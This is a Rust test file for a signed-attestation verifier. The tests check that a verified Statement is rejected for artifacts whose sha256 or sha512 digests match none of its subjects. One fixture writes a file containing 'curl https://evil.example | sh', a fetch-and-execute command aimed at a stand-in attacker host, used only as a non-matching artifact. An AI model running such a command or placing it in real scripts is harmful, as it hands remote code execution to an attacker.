//! Which artifact: a verified Statement speaks only about the artifacts it names by
//! digest. Section B.

use candor_model::Subject;
use candor_model::digest::{DigestAlgorithm, DigestSet};
use candor_sign::artifact;
use candor_sign::verify::{VerifyError, check_subject};

use crate::support::{
    ARTIFACT, FILE, SUBJECT_NAME, artifact_digests, one, signed, statement_json,
    statement_with_subjects, trusted, verify,
};

/// B7: a genuine, verified manifest for one artifact says nothing about another: the
/// installed file's digests match no subject. The message names the file and lists what
/// the Statement does name.
#[test]
fn b7_artifact_matching_no_subject_is_rejected() {
    let verified = verify(&signed(&statement_json()), FILE, &trusted(), one()).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let other = dir.path().join("agent");
    fs_err::write(&other, b"#!/bin/sh\ncurl https://evil.example | sh\n").unwrap();
    let actual = artifact::digest_file(&other).unwrap();
    let name = other.display().to_string();

    let err = check_subject(&verified.statement, &name, &actual).unwrap_err();
    let VerifyError::SubjectMismatch {
        artifact, subjects, ..
    } = &err
    else {
        panic!("expected SubjectMismatch, got {err:?}");
    };
    assert_eq!(artifact, &name);
    assert_eq!(subjects.len(), 1);
    assert_eq!(
        err.to_string(),
        format!(
            "subject does not match the artifact: {name} has sha256 {} but the Statement names:\n  {SUBJECT_NAME} sha256 {}",
            actual.sha256().unwrap(),
            artifact_digests().sha256().unwrap()
        )
    );
}

/// B7 with several subjects: the right one is found; a stranger is refused with every
/// subject listed.
#[test]
fn b7_several_subjects_are_all_listed() {
    let linux = Subject {
        name: "pkg:generic/agent-linux-x64@1.4.0".to_owned(),
        digest: artifact_digests(),
    };
    let mac = Subject {
        name: "pkg:generic/agent-darwin-arm64@1.4.0".to_owned(),
        digest: artifact::digest_bytes(b"mach-o"),
    };
    let payload = statement_with_subjects(vec![mac.clone(), linux.clone()]);
    let verified = verify(&signed(&payload), FILE, &trusted(), one()).unwrap();

    assert_eq!(
        check_subject(&verified.statement, "agent", &artifact_digests()).unwrap(),
        &linux
    );
    let stranger = artifact::digest_bytes(b"elf");
    let err = check_subject(&verified.statement, "agent", &stranger).unwrap_err();
    assert_eq!(
        err.to_string(),
        format!(
            "subject does not match the artifact: agent has sha256 {} but the Statement names:\n  {} sha256 {}\n  {} sha256 {}",
            stranger.sha256().unwrap(),
            mac.name,
            mac.digest.sha256().unwrap(),
            linux.name,
            linux.digest.sha256().unwrap(),
        )
    );
}

/// B9 (`digest_set.md`'s example): a subject whose sha256 matches the artifact but whose
/// sha512 does not is no match: every accepted algorithm both sides have must agree. The
/// message says which digest differs, since the sha256 values shown are the same.
#[test]
fn b9_matching_sha256_with_different_sha512_is_rejected() {
    let real = artifact_digests();
    let wrong_sha512 = "ab".repeat(64);
    let subject = Subject {
        name: SUBJECT_NAME.to_owned(),
        digest: DigestSet::from_pairs([
            (DigestAlgorithm::Sha256, real.sha256().unwrap().to_owned()),
            (DigestAlgorithm::Sha512, wrong_sha512.clone()),
        ])
        .unwrap(),
    };
    let payload = statement_with_subjects(vec![subject]);
    let verified = verify(&signed(&payload), FILE, &trusted(), one()).unwrap();

    let err = check_subject(&verified.statement, "agent", &real).unwrap_err();
    assert!(
        matches!(err, VerifyError::SubjectMismatch { .. }),
        "{err:?}"
    );
    assert_eq!(
        err.to_string(),
        format!(
            "subject does not match the artifact: agent has sha256 {sha256} but the Statement names:\n  \
             {SUBJECT_NAME} sha256 {sha256} (sha512 differs: the subject has {wrong_sha512}, the artifact {})",
            real.get(DigestAlgorithm::Sha512).unwrap(),
            sha256 = real.sha256().unwrap(),
        )
    );

    // The artifact's sha256 alone (a caller that computes only sha256) matches: the
    // algorithms both sides have agree.
    let sha256_only = DigestSet::single(DigestAlgorithm::Sha256, real.sha256().unwrap()).unwrap();
    assert!(check_subject(&verified.statement, "agent", &sha256_only).is_ok());
    // And the artifact file itself, digested from disk, does not.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("agent");
    fs_err::write(&path, ARTIFACT).unwrap();
    let from_disk = artifact::digest_file(&path).unwrap();
    assert!(check_subject(&verified.statement, "agent", &from_disk).is_err());
}
